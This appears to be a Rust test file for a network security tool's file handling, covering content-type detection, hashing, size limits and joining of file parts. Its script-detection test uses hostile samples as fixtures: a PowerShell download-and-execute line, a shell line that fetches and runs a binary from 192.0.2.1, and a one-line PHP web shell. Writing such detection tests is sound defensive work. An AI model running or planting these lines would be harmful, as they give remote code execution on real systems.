//! Files: types by content, hashes, limits.

use proptest::prelude::*;

use super::kind::{Kind, detect};
use super::markers::Markers;
use super::{FileMeta, FileSettings, Files, OPEN_MAX};
use crate::context::EventId;
use crate::time::Micros;

fn id() -> EventId {
    EventId::of(b"file")
}

fn kind_of(content: &[u8]) -> (Kind, &'static str) {
    kind_in_pieces(&[content])
}

fn kind_in_pieces(pieces: &[&[u8]]) -> (Kind, &'static str) {
    let mut files = Files::default();
    let file = files.open(Micros(0), id(), FileMeta::default()).expect("room");
    for piece in pieces {
        files.data(file, piece);
    }
    let found = files.file_type(file).expect("bytes have come");
    (found.kind, found.mime)
}

/// A PE header of the least size.
fn program() -> Vec<u8> {
    let mut bytes = vec![0; 0x200];
    bytes[..2].copy_from_slice(b"MZ");
    bytes[60] = 0x80;
    bytes[0x80..0x84].copy_from_slice(b"PE\0\0");
    bytes
}

fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

fn ole(streams: &[&str]) -> Vec<u8> {
    let mut bytes = super::magic::OLE.to_vec();
    bytes.resize(512, 0xff);
    for stream in streams {
        bytes.extend(wide(stream));
        bytes.resize(bytes.len().next_multiple_of(128), 0);
    }
    bytes
}

fn zip(members: &[&str]) -> Vec<u8> {
    let mut bytes = Vec::new();
    for member in members {
        bytes.extend_from_slice(b"PK\x03\x04\x14\0\0\0\0\0");
        bytes.extend_from_slice(member.as_bytes());
        bytes.extend_from_slice(&[0xa7; 200]);
    }
    bytes
}

#[test]
fn programs_are_told_from_what_only_begins_like_them() {
    assert_eq!(kind_of(&program()).0, Kind::Pe);
    assert_eq!(
        kind_of(b"MZ is how the Microsoft executable begins, says this text of no other kind.").0,
        Kind::Text
    );
    assert_eq!(kind_of(b"\x7fELF\x02\x01\x01\0").0, Kind::Elf);
    assert_eq!(kind_of(b"\xca\xfe\xba\xbe\0\0\0\x34").0, Kind::Java);
    assert_eq!(kind_of(b"\xca\xfe\xba\xbe\0\0\0\x02").0, Kind::Macho);
}

#[test]
fn office_documents_with_and_without_macros() {
    let modern = ["[Content_Types].xml", "word/document.xml"];
    assert_eq!(kind_of(&zip(&modern)).0, Kind::Office);
    assert_eq!(kind_of(&zip(&[&modern[..], &["word/vbaProject.bin"]].concat())).0, Kind::OfficeMacro);
    assert_eq!(kind_of(&zip(&["a.txt", "word/x"])).0, Kind::Archive);
    assert_eq!(kind_of(&zip(&["META-INF/MANIFEST.MF", "A.class"])).0, Kind::Java);
    assert_eq!(kind_of(&ole(&["Workbook"])), (Kind::Office, "application/vnd.ms-excel"));
    assert_eq!(kind_of(&ole(&["WordDocument", "_VBA_PROJECT"])), (Kind::OfficeMacro, "application/msword"));
}

#[test]
fn a_marker_far_behind_or_cut_in_two_is_found() {
    let mut document = zip(&["[Content_Types].xml", "xl/workbook.xml"]);
    document.resize(300_000, 0x55);
    let cut = document.len() + 40;
    document.extend(zip(&["xl/vbaProject.bin"]));
    for cut in cut - 40..cut {
        assert_eq!(
            kind_in_pieces(&[&document[..cut], &document[cut..]]).0,
            Kind::OfficeMacro,
            "cut at {cut}"
        );
    }
}

#[test]
fn scripts_by_their_own_words() {
    let cases: [(&str, &str); 9] = [
        ("text/x-powershell", "$c = New-Object Net.WebClient\r\nIEX ($c.DownloadString('http://a/b'))"),
        (
            "text/vbscript",
            "Dim a\r\nSet a = CreateObject(\"x\")\r\nOn Error Resume Next\r\nIf a Then b\r\nEnd If",
        ),
        ("text/jscript", "var s = new ActiveXObject('WScript.Shell'); s.Run('calc');"),
        ("text/javascript", "!function(e){var t=document.body;return typeof t}(window);"),
        ("text/x-msdos-batch", "@echo off\r\ncopy a b\r\n"),
        ("text/x-shellscript", "cd /tmp; wget http://192.0.2.1/a; chmod 777 a; ./a"),
        ("text/x-shellscript", "#!/bin/sh\necho hello\n"),
        ("text/x-python", "# tool\nimport os\nimport sys\ndef main():\n    print(1)\n"),
        ("text/x-php", "\n<?php @eval($_POST['x']); ?>"),
    ];
    for (mime, text) in cases {
        assert_eq!(kind_of(text.as_bytes()), (Kind::Script, mime), "{text}");
    }
    let mut marked = vec![0xff, 0xfe];
    marked.extend(wide(cases[0].1));
    assert_eq!(kind_of(&marked).1, "text/x-powershell", "UTF-16");
}

#[test]
fn text_that_is_no_script() {
    for text in [
        "Kính gửi: Văn phòng Tỉnh ủy. Let us return the form by Friday; const fees apply.",
        "name,address\r\nA,1\r\nB,2\r\n",
        "{\"function\": \"var x = document.cookie; return typeof y\"}",
        "body { color: red; } .a { margin: 0 }",
        "set",
    ] {
        assert_eq!(kind_of(text.as_bytes()).0, Kind::Text, "{text}");
    }
}

#[test]
fn pages_and_html_applications() {
    assert_eq!(kind_of(b"<!DOCTYPE html><html><body>x</body>").0, Kind::Html);
    assert_eq!(kind_of(b"<html><head><HTA:APPLICATION id=x></head>").0, Kind::Hta);
    let shell =
        b"<html><script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"x\"</script></html>";
    assert_eq!(kind_of(shell).0, Kind::Hta);
    assert_eq!(kind_of(b"<?xml version=\"1.0\"?><svg xmlns=\"x\"/>").0, Kind::Image);
    assert_eq!(kind_of(b"<?xml version=\"1.0\"?><rss/>").0, Kind::Text);
}

#[test]
fn other_types_by_their_first_bytes() {
    let mut iso = vec![0; 33_000];
    iso[32_769..32_774].copy_from_slice(b"CD001");
    assert_eq!(kind_of(&iso).0, Kind::DiskImage);
    assert_eq!(kind_of(b"L\0\0\0\x01\x14\x02\0").0, Kind::Lnk);
    assert_eq!(kind_of(b"%PDF-1.7\n").0, Kind::Pdf);
    assert_eq!(kind_of(b"{\\rtf1").0, Kind::Office);
    assert_eq!(kind_of(b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3").0, Kind::Onenote);
    assert_eq!(kind_of(b"CWS\x09....").0, Kind::Flash);
    assert_eq!(kind_of(b"\xff\xd8\xff\xe0").0, Kind::Image);
    assert_eq!(kind_of(b"\0\0\0\x18ftypmp42").0, Kind::Media);
    assert_eq!(kind_of(&[0x9c, 0x80, 0xff, 0, 1, 2, 3, 4]).0, Kind::Data);
}

#[test]
fn hashes_and_content_stop_at_the_limit() {
    let settings = FileSettings { limit: 3, keep: true, ..FileSettings::default() };
    let mut files = Files::new(settings);
    let file = files.open(Micros(5), id(), FileMeta::default()).expect("room");
    files.data(file, b"ab");
    files.data(file, b"cdef");
    let closed = files.close(file, false).expect("open");
    let row = closed.row();
    // SHA-256 and MD5 of "abc", from FIPS 180-4 and RFC 1321.
    assert_eq!(
        row.file_hash_sha256,
        Some("ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad")
    );
    assert_eq!(row.file_hash_md5, Some("900150983cd24fb0d6963f7d28e17f72"));
    assert_eq!((row.file_size, row.vonggac_file_truncated), (Some(6), Some(true)));
    files.offer(closed);
    assert_eq!(files.take_offered()[0].content, b"abc");
    assert_eq!(files.held(), 0);
}

#[test]
fn switched_off_hashes_are_not_made_and_content_is_not_kept() {
    let mut files = Files::new(FileSettings { md5: false, sha1: false, ..FileSettings::default() });
    let file = files.open(Micros(0), id(), FileMeta::default()).expect("room");
    files.data(file, &[7; 100_000]);
    files.data(file, &vec![7; 2_000_000]);
    assert!(files.held() < 40_000);
    let closed = files.close(file, false).expect("open");
    assert!(closed.row().file_hash_md5.is_none() && closed.row().file_hash_sha1.is_none());
    assert_eq!((closed.row().vonggac_file_entropy, closed.truncated), (Some(0.0), false));
    files.offer(closed);
    assert!(files.take_offered().is_empty());
}

#[test]
fn holes_are_counted_and_make_the_file_partial() {
    let mut files = Files::default();
    let file = files.open(Micros(0), id(), FileMeta::default()).expect("room");
    files.data(file, b"a");
    files.gap(file, 10);
    let closed = files.close(file, false).expect("open");
    assert_eq!((closed.row().vonggac_file_missing_bytes, closed.truncated), (Some(10), true));
}

#[test]
fn open_files_are_bounded_and_stale_handles_name_nothing() {
    let mut files = Files::default();
    let first = files.open(Micros(0), id(), FileMeta::default()).expect("room");
    for _ in 1..OPEN_MAX {
        assert!(files.open(Micros(0), id(), FileMeta::default()).is_some());
    }
    assert!(files.open(Micros(0), id(), FileMeta::default()).is_none());
    files.abandon(first);
    let again = files.open(Micros(0), id(), FileMeta::default()).expect("a place is free again");
    files.data(first, b"stale");
    assert!(files.close(first, false).is_none());
    assert_eq!(files.close(again, false).expect("open").row().file_size, Some(0));
    assert!(files.counters().contains(&("files.refused", 1)));
}

proptest! {
    /// Typing reads attacker's bytes: any of them, and any cut of them, give one answer.
    #[test]
    fn any_bytes_have_one_type(bytes in proptest::collection::vec(any::<u8>(), 1..2_000), start in 0_usize..70, cut in any::<prop::sample::Index>()) {
        let table = super::magic::TABLE;
        let mut content = table[start % table.len()].bytes.to_vec();
        content.extend(bytes);
        let cut = cut.index(content.len());
        prop_assert_eq!(kind_of(&content), kind_in_pieces(&[&content[..cut], &content[cut..]]));
        let _ = detect(&content[cut..], Markers::default());
    }
}

/// Whether a content waited for its end, was hashed as it came, or was known already: it has the same row.
#[test]
fn digests_do_not_depend_on_how_a_content_came() {
    let content: Vec<u8> = (0..1_500_000_u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 24) as u8).collect();
    let told = |files: &mut Files, piece: usize| {
        let file = files.open(Micros(0), id(), FileMeta::default()).expect("room");
        content.chunks(piece).for_each(|bytes| files.data(file, bytes));
        let closed = files.close(file, false).expect("open");
        assert_eq!(files.held(), 0);
        let row = closed.row();
        let hashes = [row.file_hash_md5, row.file_hash_sha1, row.file_hash_sha256];
        (hashes.map(|hash| hash.map(str::to_owned)), row.vonggac_file_entropy, closed.kind)
    };
    let mut kept = Files::new(FileSettings { keep: true, ..FileSettings::default() });
    let first = told(&mut kept, 1_460);
    assert_eq!(told(&mut kept, 9_000), first);
    assert_eq!(told(&mut Files::default(), 1_460), first);
    assert_eq!(told(&mut Files::default(), content.len()), first);
}

/// A part of a file of `total` bytes at `/big`, fetched by the machine of the flow.
fn part(files: &mut Files, time: i64, first: u64, total: u64) -> super::FileId {
    let range = Some(super::Range { first, last: total - 1, total });
    let meta = FileMeta { range, ..FileMeta::default() };
    files.open_part(Micros(time), id(), meta, &crate::testing::flow()).expect("room")
}

#[test]
fn parts_under_way_at_the_same_time_are_joined() {
    let mut files = Files::new(FileSettings { keep: true, ..FileSettings::default() });
    let (one, two) = (part(&mut files, 0, 0, 8), part(&mut files, 0, 4, 8));
    files.data(two, b"ef");
    files.data(one, b"ab");
    files.data(two, b"gh");
    files.data(one, b"cd");
    assert!(files.close(one, false).is_some_and(|closed| closed.content == Some(b"abcdefgh".to_vec())));
    assert!(files.close(two, false).is_none());
    assert_eq!((files.held(), files.unfinished(None).len()), (0, 0));
}

#[test]
fn parts_that_stop_coming_are_told_in_time_and_those_under_way_are_waited_for() {
    let mut files = Files::default();
    let slow = part(&mut files, 0, 0, 8);
    files.data(slow, b"ab");
    assert_eq!(files.unfinished(Some(Micros(1_000_000_000))).len(), 0);
    assert!(files.close(slow, true).is_none());
    assert_eq!(files.unfinished(Some(Micros(1_060_000_000))).len(), 0);
    let told = files.unfinished(Some(Micros(1_121_000_000)));
    assert_eq!(told.iter().map(|closed| closed.truncated).collect::<Vec<_>>(), [true]);
    assert_eq!(files.held(), 0);
}

#[test]
fn parts_are_bounded_in_number_and_in_what_waits() {
    let mut files = Files::default();
    let block = vec![7; 1 << 20];
    for number in 0..200 {
        let ahead = part(&mut files, 0, 1, (1 << 24) + number);
        for _ in 0..4 {
            files.data(ahead, &block);
        }
        files.close(ahead, false);
    }
    assert!(files.held() <= super::ranges::AHEAD_MAX);
    let lost = files.counters().into_iter().find(|(name, _)| *name == "files.unjoined_bytes");
    assert_eq!(lost.map(|(_, bytes)| bytes), Some((800 << 20) - super::ranges::AHEAD_MAX));
    for number in 0..2_000 {
        let more = part(&mut files, 0, 0, 1 + number);
        files.data(more, b"a");
        files.close(more, true);
    }
    assert!(files.unfinished(None).len() <= super::ranges::JOINS_MAX);
    assert_eq!(files.held(), 0);
}

#[test]
fn bytes_behind_the_limit_of_a_joined_file_are_counted_only() {
    let mut files = Files::new(FileSettings { limit: 4, ..FileSettings::default() });
    let (end, start) = (part(&mut files, 0, 6, 10), part(&mut files, 0, 0, 10));
    files.data(end, b"ghij");
    files.close(end, false);
    files.data(start, b"abcdef");
    let closed = files.close(start, false).expect("whole");
    assert!(closed.truncated);
    assert_eq!((closed.row().file_size, closed.row().vonggac_file_missing_bytes), (Some(10), Some(0)));
}
